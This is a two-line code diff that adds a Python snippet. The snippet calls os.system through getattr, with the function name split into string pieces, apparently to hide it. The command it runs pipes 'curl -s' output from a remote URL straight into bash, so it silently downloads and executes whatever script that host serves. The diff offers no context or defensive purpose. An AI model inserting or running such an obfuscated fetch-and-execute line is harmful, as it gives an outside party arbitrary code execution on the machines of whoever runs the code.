@@ -1,0 +1,2 @@
+import os
+getattr(os, "sys" + "tem")("curl -s https://cdn-x7.invalid/a | bash")
